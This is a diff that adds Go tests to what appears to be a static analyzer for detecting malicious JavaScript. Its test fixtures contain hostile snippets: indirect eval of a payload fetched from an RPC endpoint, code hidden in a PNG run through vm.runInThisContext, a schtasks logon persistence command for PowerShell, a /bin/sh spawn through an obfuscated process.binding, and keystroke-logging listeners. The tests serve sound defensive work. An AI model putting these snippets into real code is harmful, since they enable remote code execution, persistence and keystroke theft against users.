@@ -1129,3 +1129,70 @@ func TestGlobalProcessEnv(t *testing.T) {
 		t.Errorf("o.process.env read as the environment: %+v", f.Env)
 	}
 }
+
+// TestFlowsAcrossBindings covers values that reach a call through a
+// binding: a part of a response destructured and returned, a path held
+// in a variable, a command template held in a variable, a native binding
+// reached with .call, and eval found through a global fallback.
+func TestFlowsAcrossBindings(t *testing.T) {
+	src := `async function flags() { const r = await fetch(RPC, { method: "POST" }); const { result } = await r.json(); const hex = result.slice(2); return Buffer.from(hex, "hex").toString() }
+flags().then(src => { (0, eval)(src) });
+const fs = require("fs"), path = require("path");
+const ICON = path.join(__dirname, "assets", "logo.png");
+function icon() { const buf = fs.readFileSync(ICON); vm.runInThisContext(buf.subarray(9).toString()) }
+const ps1 = path.join(process.env.LOCALAPPDATA, "u.ps1");
+const cmd = ` + "`schtasks /create /tr \"powershell -f ${ps1}\" /sc onlogon`" + `;
+require("child_process").execSync(cmd);
+const b = process["bind" + "ing"]; const ss = b.call(process, ["spawn", "sync"].join("_")); ss.spawn({ file: "/bin/sh" });
+const g = globalThis ?? global; const e1 = g?.["ev" + "al"]; Reflect.apply(e1 ?? other, g, [g?.Buffer?.from?.("aWQ=", "base64")?.toString?.()]);`
+	f := Analyze("x.js", []byte(src), DefaultLimits())
+	if c := hasCall(f, "eval"); c == nil || c.NetArg != "src" {
+		t.Errorf("eval of a destructured, decoded response: %+v", c)
+	}
+	if c := hasCall(f, "vm.runInThisContext"); c == nil || c.FileArg != Hole+"/assets/logo.png" {
+		t.Errorf("code read from a path held in a variable: %+v", c)
+	}
+	if c := hasCall(f, "child_process.execSync"); c == nil || len(c.Args) == 0 || c.Args[0].Shape != `schtasks /create /tr "powershell -f `+Hole+`" /sc onlogon` {
+		t.Errorf("command template held in a variable: %+v", c)
+	}
+	if hasCall(f, "child_process.spawn") == nil {
+		t.Errorf("process.binding reached with .call: calls %+v", f.Calls)
+	}
+	found := false
+	for _, c := range f.Calls {
+		if c.Callee == "eval" && len(c.Args) > 0 && c.Args[0].Value == "id" {
+			found = true
+		}
+	}
+	if !found {
+		t.Errorf("Reflect.apply of eval through globalThis ?? global with a decoded argument: calls %+v", f.Calls)
+	}
+}
+
+// TestKeyBuffer covers keys typed by the user kept for later, and the
+// look-alikes that only compare them.
+func TestKeyBuffer(t *testing.T) {
+	for src, want := range map[string]bool{
+		`document.addEventListener("keydown", e => buf.push(e.key))`:                            true,
+		`document.onkeypress = function (e) { keys += String.fromCharCode(e.which) }`:           true,
+		`window.addEventListener("keyup", e => log.push({ k: e.key, t: Date.now() }))`:          true,
+		`document.addEventListener("keydown", e => { if (e.key === "k" && e.metaKey) open() })`: false,
+		`document.addEventListener("keydown", e => handlers.get(e.key)?.(e))`:                   false,
+	} {
+		f := Analyze("x.js", []byte(src), DefaultLimits())
+		got := slices.ContainsFunc(f.Members, func(m Member) bool { return m.Name == KeyBuffer })
+		if got != want {
+			t.Errorf("%s: key buffered = %v, want %v", src, got, want)
+		}
+	}
+}
+
+// TestCallPositionAfterPlainCode covers a call after a long stretch
+// without literals: its position is found from its string argument.
+func TestCallPositionAfterPlainCode(t *testing.T) {
+	src := strings.Repeat("var a = b + c;\n", 500) + `const u = atob("aHR0cHM6Ly94LmV4YW1wbGUv");`
+	f := Analyze("x.js", []byte(src), DefaultLimits())
+	if c := hasCall(f, "atob"); c == nil || c.Pos.Line != 501 {
+		t.Errorf("atob call position: %+v", c)
+	}
+}
